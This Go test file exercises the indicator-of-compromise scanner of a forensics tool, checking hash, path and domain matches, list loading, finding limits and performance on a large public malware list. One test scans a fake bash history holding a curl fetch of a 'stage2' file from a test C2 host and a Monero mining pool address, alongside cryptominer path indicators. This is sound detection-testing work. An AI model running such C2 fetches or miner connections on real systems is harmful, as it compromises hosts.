package ioc

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"

	"github.com/hozen-dfir/hozen/analyze"
	"github.com/hozen-dfir/hozen/analyze/ioc/list"
	"github.com/hozen-dfir/hozen/analyze/ioc/scan"
	"github.com/hozen-dfir/hozen/evidence"
)

// set compiles a list given as text.
func set(t testing.TB, text string) *Set {
	t.Helper()
	b := NewBuilder()
	if err := b.File("list.txt"); err != nil {
		t.Fatal(err)
	}
	rep, err := list.Read(strings.NewReader(text), b.Add)
	if err != nil || rep.Odd > 0 {
		t.Fatalf("%v %+v", err, rep.Places)
	}
	s, err := b.Compile()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func subject(b []byte, path string) *analyze.Subject {
	r := evidence.Record{Path: path, Outcome: evidence.Collected, Size: int64(len(b)), Seq: 3, Source: "host"}
	return &analyze.Subject{Bundle: "b", Record: r, Size: r.Size, Body: bytes.NewReader(b), Bytes: func(limit int64) ([]byte, error) {
		if int64(len(b)) > limit {
			return nil, nil
		}
		return b, nil
	}}
}

func examine(t testing.TB, s *Set, sub *analyze.Subject) []analyze.Finding {
	t.Helper()
	var out []analyze.Finding
	if err := New(s).Examine(context.Background(), sub, func(f analyze.Finding) { out = append(out, f) }); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestAnalyzer(t *testing.T) {
	s := set(t, "d41d8cd98f00b204e9800998ecf8427e;90;empty file\n900150983cd24fb0d6963f7d28e17f72\na9993e364706816aba3e25717850c26c9cd0d89d\npath:^/tmp/\\.;75\nevil.example\n")
	got := examine(t, s, subject([]byte("abc"), "/tmp/.x"))
	var lines []string
	for _, f := range got {
		lines = append(lines, fmt.Sprintf("%s %s %s %s", f.Kind, f.Rule, f.Severity, f.Matches[0].Name))
	}
	want := []string{"md5 900150983cd24fb0d6963f7d28e17f72 high md5", "sha1 a9993e364706816aba3e25717850c26c9cd0d89d high sha1", `path-regex ^/tmp/\. high path`}
	if d := cmp.Diff(want, lines); d != "" {
		t.Error(d)
	}
	got = examine(t, s, subject(nil, "/e"))
	if len(got) != 1 || got[0].Severity != analyze.Critical || got[0].Title != "empty file" || got[0].Meta["line"] != "1" {
		t.Errorf("empty: %+v", got)
	}
	text := strings.Repeat("evil.example ", 150)
	got = examine(t, s, subject([]byte(text), "/x"))
	if len(got) != 1 || len(got[0].Matches) != analyze.MatchLimit || got[0].More != 50 || got[0].RuleFile != "list.txt" {
		t.Fatalf("%+v", got)
	}
	m := analyze.Match{Name: "content", Offset: 13, Length: 12, Data: "ZXZpbC5leGFtcGxl", Text: "evil.example"}
	if d := cmp.Diff(m, got[0].Matches[1]); d != "" {
		t.Error(d)
	}
	wide := []byte("\xfc\x00b\x00.\x00e\x00v\x00i\x00l\x00.\x00e\x00x\x00a\x00m\x00p\x00l\x00e\x00")
	if got = examine(t, set(t, "üb.evil.example\n"), subject(wide, "/w")); len(got) != 1 || got[0].Matches[0].Text != "üb.evil.example" || got[0].Matches[0].Name != "content/utf-16le" || got[0].Matches[0].Length != len(wide) {
		t.Errorf("%+v", got)
	}
	gone := &analyze.Subject{Record: evidence.Record{Path: "/tmp/.gone", Outcome: evidence.Missing, SHA256: ""}}
	if got := examine(t, s, gone); len(got) != 1 || got[0].Kind != "path-regex" {
		t.Errorf("an item without content has a path: %+v", got)
	}
}

// TestManyIndicators: a copy of the list itself ends in bounded findings and
// says so.
func TestManyIndicators(t *testing.T) {
	var b strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&b, "d%d.example\n", i)
	}
	s := set(t, b.String())
	got := examine(t, s, subject([]byte(b.String()), "/list"))
	last := got[len(got)-1]
	if len(got) != MaxFindings+1 || last.Kind != "limit" || !strings.Contains(last.Title, "4000") {
		t.Errorf("%d findings, last %+v", len(got), last)
	}
}

type failing struct{}

func (failing) ReadAt([]byte, int64) (int, error) { return 0, errors.New("bad sector") }

func TestAnalyzerReadError(t *testing.T) {
	s := set(t, "evil.example\n")
	sub := &analyze.Subject{Record: evidence.Record{Path: "/x"}, Size: 10, Body: failing{}}
	if err := New(s).Examine(context.Background(), sub, func(analyze.Finding) {}); err == nil || !strings.Contains(err.Error(), "bad sector") {
		t.Errorf("%v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := New(s).Examine(ctx, subject([]byte("x"), "/x"), func(analyze.Finding) {}); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
}

// root is the folder of go.mod.
func root(t testing.TB) string {
	t.Helper()
	dir, err := os.Getwd()
	for err == nil && dir != filepath.Dir(dir) {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		dir = filepath.Dir(dir)
	}
	t.Fatal("no go.mod above this test", err)
	return ""
}

func TestLoadPaths(t *testing.T) {
	dir := t.TempDir()
	for name, text := range map[string]string{"a.txt": "evil.example\nodd line\n", "sub/b.csv": "type,value\nmd5,d41d8cd98f00b204e9800998ecf8427e\n",
		"c.json": "{}", "d.list": "{\"a\":1}", "README.md": "x"} {
		os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(dir, "a.txt"), filepath.Join(dir, "e.txt")); err != nil {
		t.Fatal(err)
	}
	s, reports, err := LoadPaths(context.Background(), []string{dir})
	if err != nil || s.Len() != 2 {
		t.Fatal(err)
	}
	var got []string
	for _, r := range reports {
		got = append(got, fmt.Sprintf("%s %d %d %v %v", strings.TrimPrefix(r.Name, filepath.ToSlash(dir)), r.Indicators, r.Odd, r.Skipped != "", r.Error != ""))
	}
	if d := cmp.Diff([]string{"/README.md 0 0 true false", "/a.txt 1 1 false false", "/c.json 0 0 false true", "/d.list 0 0 false true", "/e.txt 0 0 false true", "/sub/b.csv 1 0 false false"}, got); d != "" {
		t.Error(d)
	}
	if _, _, err := LoadPaths(context.Background(), []string{filepath.Join(dir, "none")}); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%v", err)
	}
}

// TestStarterList: the list in the repository is whole, and every indicator
// finds what it is made from.
func TestStarterList(t *testing.T) {
	s, reports, err := LoadFS(context.Background(), os.DirFS(filepath.Join(root(t), "rules", "ioc")), "rules/ioc")
	if err != nil || len(reports) != 2 || !reports[1].OK() || reports[1].Indicators < 18 {
		t.Fatalf("%v %+v", err, reports)
	}
	for path, want := range map[string]int{"/dev/shm/.x": 1, "/tmp/.a/kinsing": 1, "/var/tmp/xmrig": 1, "/etc/cron.d/.a": 1, "/etc/cron.d/.placeholder": 0,
		"/dev/shm/x": 0, "/tmp/kinsing.log": 0, "/usr/lib/libx.so.1/.a": 1, "/usr/lib/libx.so.1": 0, "/tmp/.X11-unix/X0": 0, "/tmp/.X11-unix/evil.sh": 1} {
		if got := s.MatchPath(path); len(got) != want {
			t.Errorf("%s: %v", path, got)
		}
	}
	found := examine(t, s, subject([]byte("curl http://c2.hozen-sweep-test.example/stage2; ping 203.0.113.214 2001:db8:686f:7a65::6e dropbox@hozen-sweep-test.example xmr.2miners.com:2222"), "/root/.bash_history"))
	if len(found) != 6 {
		t.Errorf("%d findings: %+v", len(found), found)
	}
	b, err := os.ReadFile(filepath.Join(root(t), "rules", "ioc", "starter.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if found := examine(t, s, subject(b, "/opt/hozen")); len(found) != 0 {
		t.Errorf("the list, and so a program that carries it, is found: %+v", found)
	}
}

// maltrail reads the big public list once, or skips.
func maltrail(t testing.TB) string {
	t.Helper()
	p := filepath.Join(root(t), "..", "shared", "corpus", "iocs", "maltrail-malware.txt.zst")
	if _, err := os.Stat(p); err != nil {
		t.Skipf("the corpus is not here: %v", err)
	}
	return p
}

// TestMillion: the big list loads within time and space, and 2,000 of its
// indicators hidden in random text are found, each at its place.
func TestMillion(t *testing.T) {
	p := maltrail(t)
	debug.FreeOSMemory()
	start := time.Now()
	s, reports, err := LoadPaths(context.Background(), []string{p})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d indicators in %s, %d MB compiled", s.Len(), time.Since(start).Round(time.Millisecond), len(s.Marshal())>>20)
	if r := reports[0]; r.Indicators < 1_300_000 || r.Odd > 100 || r.Error != "" || len(r.SHA256) != 64 {
		t.Errorf("%+v", r)
	}
	if peak := peakRSS(t); peak > 500<<20 && !raceDetector {
		t.Errorf("%d MB of memory", peak>>20)
	}
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := zstd.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	rng := rand.New(rand.NewPCG(4, 2))
	var b bytes.Buffer
	want := map[int64]list.Indicator{}
	every := 600
	list.Read(z.IOReadCloser(), func(i list.Indicator) error {
		if i.Kind == list.Path || i.Kind == list.FileName || i.Kind == list.CIDR || rng.IntN(every) != 0 || strings.Contains(i.Key, "xn--") {
			return nil
		}
		for range 20 + rng.IntN(300) {
			b.WriteByte(byte(rng.IntN(256)))
		}
		b.WriteByte(' ')
		text := i.Key
		if i.Kind == list.URL {
			text = "http://" + i.Key
		}
		want[int64(b.Len()+len(text)-len(i.Key))] = i
		b.WriteString(text)
		b.WriteByte('\n')
		return nil
	})
	got := map[int64][]string{}
	sc := scan.New(s, func(p scan.Place) { got[p.Offset] = append(got[p.Offset], s.Key(p.Entry)) })
	if err := sc.Read(context.Background(), bytes.NewReader(b.Bytes()), int64(b.Len()), io.Discard); err != nil {
		t.Fatal(err)
	}
	missed := 0
	for off, i := range want {
		if !strings.Contains(strings.Join(got[off], " ")+" ", strings.TrimSuffix(i.Key, "/")) {
			missed++
			t.Errorf("%s %q at %d is not found: %q", i.Kind, i.Key, off, got[off])
		}
	}
	if len(want) < 2000 {
		t.Errorf("only %d samples", len(want))
	}
	t.Logf("%d samples, %d missed", len(want), missed)
}

func peakRSS(t testing.TB) int64 {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Skip("no /proc")
	}
	var kb int64
	for _, l := range strings.Split(string(b), "\n") {
		if _, err := fmt.Sscanf(l, "VmHWM: %d kB", &kb); err == nil {
			return kb << 10
		}
	}
	return 0
}

// BenchmarkScan measures the big list against this machine's programs.
func BenchmarkScan(b *testing.B) {
	s, _, err := LoadPaths(context.Background(), []string{maltrail(b), filepath.Join(root(b), "..", "shared", "corpus", "iocs", "signature-base")})
	if err != nil {
		b.Fatal(err)
	}
	var data []byte
	filepath.WalkDir("/usr", func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() && len(data) < 128<<20 {
			x, _ := os.ReadFile(p)
			data = append(data, x...)
		}
		return nil
	})
	sc := scan.New(s, func(scan.Place) {})
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		sc.Bytes(data)
	}
}

func BenchmarkPaths(b *testing.B) {
	s, _, err := LoadPaths(context.Background(), []string{filepath.Join(root(b), "..", "shared", "corpus", "iocs", "signature-base")})
	if err != nil {
		b.Skip(err)
	}
	for b.Loop() {
		s.MatchPath("/usr/lib/python3/dist-packages/some/module/__pycache__/name.cpython-311.pyc")
	}
}
